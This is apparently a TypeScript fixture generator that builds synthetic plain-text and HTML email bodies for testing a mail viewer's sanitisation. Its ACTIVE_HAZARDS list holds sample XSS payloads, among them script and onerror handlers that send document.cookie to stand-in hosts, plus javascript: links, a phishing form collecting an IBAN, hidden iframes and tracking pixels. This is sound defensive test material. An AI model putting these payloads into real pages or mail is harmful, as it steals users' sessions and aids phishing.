// Message bodies as mail clients produce them: plain text with "> " quotes, or HTML with what real
// HTML mail carries — style blocks, remote and inline images, tracking pixels, conditional
// comments, broken markup, and in some inbound mail active content a viewer must neutralise
// (scripts, event handlers, javascript: links, forms, iframes, meta refresh).
import { base64 } from '../files/bytes';
import { buildPng } from '../files/png';
import type { Rng } from '../rng';

export interface BodyInput {
  html: boolean;
  inbound: boolean;
  greeting: string;
  paragraphs: readonly string[];
  signature: readonly string[];
  /** The quoted earlier message: its attribution line and its text (with its own quotes). */
  quote: { header: string; text: string } | null;
  /** Used in tracking-pixel URLs. */
  token: string;
}

export interface Body {
  content: string;
  /** Plain text of the whole message, quotes included, for the next reply to quote. */
  text: string;
}

const MAX_QUOTE = 6000;

export function escapeHtml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;');
}

function quoted(text: string): string {
  const clipped = text.length > MAX_QUOTE ? `${text.slice(0, MAX_QUOTE)}\n[…]` : text;
  return clipped
    .split('\n')
    .map((line) => (line.startsWith('>') ? `>${line}` : `> ${line}`))
    .join('\n');
}

let inlinePng: string | null = null;

/** A tiny logo as a data: URI (inline images are common in signatures). */
function inlineLogo(): string {
  inlinePng ??= base64(
    buildPng(
      8,
      8,
      [
        [255, 255, 255],
        [0, 82, 147],
      ],
      [{ x: 1, y: 1, w: 6, h: 6, colour: 1 }],
    ),
  );
  return `data:image/png;base64,${inlinePng}`;
}

type Hazard = (rng: Rng, token: string) => string;

/** Active content: what a safe viewer must strip or disarm. */
const ACTIVE_HAZARDS: readonly Hazard[] = [
  () =>
    '<script>document.write("<img src=https://collect.example/c?"+document.cookie+">")</script>',
  () => '<script src="https://cdn.example/widget/loader.js" async></script>',
  () =>
    `<img src="cid:missing-part" onerror="fetch('https://exfil.example/?c='+encodeURIComponent(document.cookie))" alt="">`,
  () =>
    '<a href="javascript:void(location.href=\'https://login.example/verify\')">View your secure statement</a>',
  () =>
    '<a href="https://sandbox-bank.example.login-verify.example/session" onclick="return confirmLogin()">Confirm your details</a>',
  () =>
    '<iframe src="https://ads.example/frame.html" width="1" height="1" style="display:none"></iframe>',
  () =>
    '<form action="https://login.example/collect" method="post"><input name="iban" placeholder="IBAN"><button>Submit</button></form>',
  () => '<meta http-equiv="refresh" content="30;url=https://login.example/">',
  () => '<svg width="1" height="1" onload="alert(1)"></svg>',
  () =>
    '<object data="https://files.example/viewer.swf" type="application/x-shockwave-flash"></object>',
  () => '<div style="background-image:url(javascript:alert(1))">&nbsp;</div>',
  () => '<body onload="init()"><p>Loading…</p>',
];

/** Passive but privacy-relevant content. */
const PASSIVE_HAZARDS: readonly Hazard[] = [
  (_rng, token) =>
    `<img src="https://track.example/open/${token}.gif" width="1" height="1" alt="" style="display:block;border:0">`,
  (rng) =>
    `<img src="https://images.example/newsletter/banner-${rng.int(1, 9)}.jpg" alt="Banner" width="600">`,
  () =>
    '<style>body{font-family:system-ui,sans-serif;font-size:11pt} .p{margin:0} div.bg{background:url(https://track.example/bg.png)}</style>',
  () =>
    '<!--[if mso]><table role="presentation" width="600"><tr><td><![endif]--><div style="max-width:600px"><!--[if mso]></td></tr></table><![endif]-->',
  () => `<img src="${inlineLogo()}" width="8" height="8" alt="logo">`,
  () => '<div><p>Sent from my phone<span style="color:#999"></div></p></span>',
  () =>
    '<table><tr><td>Ref.<td>n/a<tr><td colspan=2><font face="Arial" size=2>Confidential</font></table>',
];

function paragraphHtml(text: string): string {
  return `<p class="p">${escapeHtml(text)}</p>`;
}

export function renderBody(rng: Rng, input: BodyInput): Body {
  const own = [
    input.greeting,
    '',
    ...input.paragraphs.flatMap((p) => [p, '']),
    ...input.signature,
  ].join('\n');
  const quoteText = input.quote ? `\n\n${input.quote.header}\n${quoted(input.quote.text)}` : '';
  const text = own + quoteText;
  if (!input.html) return { content: text, text };
  const parts: string[] = [];
  const hazardous = input.inbound ? rng.chance(0.35) : rng.chance(0.05);
  if (rng.chance(0.5)) parts.push(PASSIVE_HAZARDS[2]?.(rng, input.token) ?? '');
  if (rng.chance(0.15)) parts.push(PASSIVE_HAZARDS[3]?.(rng, input.token) ?? '');
  parts.push(paragraphHtml(input.greeting), ...input.paragraphs.map(paragraphHtml));
  if (hazardous)
    for (const hazard of rng.sample(ACTIVE_HAZARDS, rng.int(1, 3)))
      parts.push(hazard(rng, input.token));
  if (rng.chance(input.inbound ? 0.15 : 0.3))
    parts.push(PASSIVE_HAZARDS[0]?.(rng, input.token) ?? '');
  if (rng.chance(0.12)) parts.push(PASSIVE_HAZARDS[1]?.(rng, input.token) ?? '');
  parts.push(`<div class="signature">${input.signature.map(escapeHtml).join('<br>')}</div>`);
  if (rng.chance(0.2)) parts.push(PASSIVE_HAZARDS[4]?.(rng, input.token) ?? '');
  if (rng.chance(0.1)) parts.push(rng.pick(PASSIVE_HAZARDS.slice(5))(rng, input.token));
  if (input.quote) {
    const quotedHtml = escapeHtml(input.quote.text.slice(0, MAX_QUOTE)).replace(/\n/g, '<br>\n');
    parts.push(
      `<div class="quote-header">${escapeHtml(input.quote.header)}</div><blockquote type="cite" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">${quotedHtml}</blockquote>`,
    );
  }
  const content = `<html><head><meta charset="utf-8"></head><body>\n${parts.join('\n')}\n</body></html>`;
  return { content, text };
}
